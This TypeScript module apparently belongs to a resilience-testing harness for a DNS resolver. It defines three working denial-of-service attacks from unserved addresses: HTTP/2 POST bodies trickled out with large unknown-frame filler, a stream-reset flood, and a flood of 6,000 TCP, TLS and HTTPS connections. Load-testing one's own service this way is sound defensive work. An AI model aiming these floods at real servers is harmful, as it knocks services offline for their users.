/** Attacks by those who are not served: they need only reach the ports. */
import type { Socket } from 'node:net';
import { SERVER, STRANGERS } from '../shared/target.js';
import { type AttackContext, pace, type NamedAttack, openSocket } from './attack.js';
import { resetsFrom, frame, openSession, POST } from './https-attacks.js';

/** More than a resolver takes, `DNS_TCP_CONNECTIONS`. */
const CONNECTIONS = 6_000;
const CONNECTIONS_PER_SECOND = 800;
const SESSIONS = 8;
const STREAMS = 60;
const PIECES_PER_SECOND = 2_500;
/** What comes with one byte of a body: about as much as a socket is read into at once. */
const FILLER_BYTES = 16_000;
const [DATA, HEADERS, UNKNOWN] = [0, 1, 0xfe];
const END_HEADERS = 4;

const FILLER = Buffer.alloc(FILLER_BYTES);

/** A session with requests whose bodies have not begun. */
function openPosts(context: AttackContext, n: number, onClose: () => void): Socket {
  const session = openSession(context, strangerOf(n), onClose);
  for (let i = 0; i < STREAMS; i++) session.write(frame(HEADERS, END_HEADERS, 1 + 2 * i, POST));
  return session;
}

function strangerOf(n: number): string {
  return STRANGERS[n % STRANGERS.length] ?? SERVER;
}

export const STRANGER_ATTACKS: readonly NamedAttack[] = [
  {
    name: 'stranger-bodies',
    description:
      '2,500 bytes a second of 480 HTTPS bodies, each among 16 kB, from clients that are not served',
    run: async (context) => {
      const sessions: (Socket | null)[] = Array.from({ length: SESSIONS }, () => null);
      await pace(context, PIECES_PER_SECOND, (n) => {
        const at = n % SESSIONS;
        const session = (sessions[at] ??= openPosts(context, at, () => (sessions[at] = null)));
        if (session.writableLength > FILLER_BYTES) return;
        context.counts.add('pieces');
        const stream = 1 + 2 * (Math.floor(n / SESSIONS) % STREAMS);
        session.write(
          Buffer.concat([frame(DATA, 0, stream, Buffer.from('x')), frame(UNKNOWN, 0, 0, FILLER)]),
        );
      });
    },
  },
  {
    name: 'stranger-resets',
    description: 'the same as doh-resets, from 64 addresses that are not served',
    run: resetsFrom(STRANGERS),
  },
  {
    name: 'stranger-connections',
    description: '6,000 TCP, TLS and HTTPS connections from 64 addresses that are not served',
    run: async (context) => {
      const { target, counts } = context;
      const ports = [target.dnsPort, target.tlsPort, target.httpsPort];
      let wanted = CONNECTIONS;
      await pace(context, CONNECTIONS_PER_SECOND, (n) => {
        if (wanted === 0) return;
        wanted--;
        counts.add('connections');
        openSocket(context, ports[n % ports.length] ?? 0, strangerOf(n)).on('close', () => {
          counts.add('closed');
          wanted++;
        });
      });
    },
  },
];
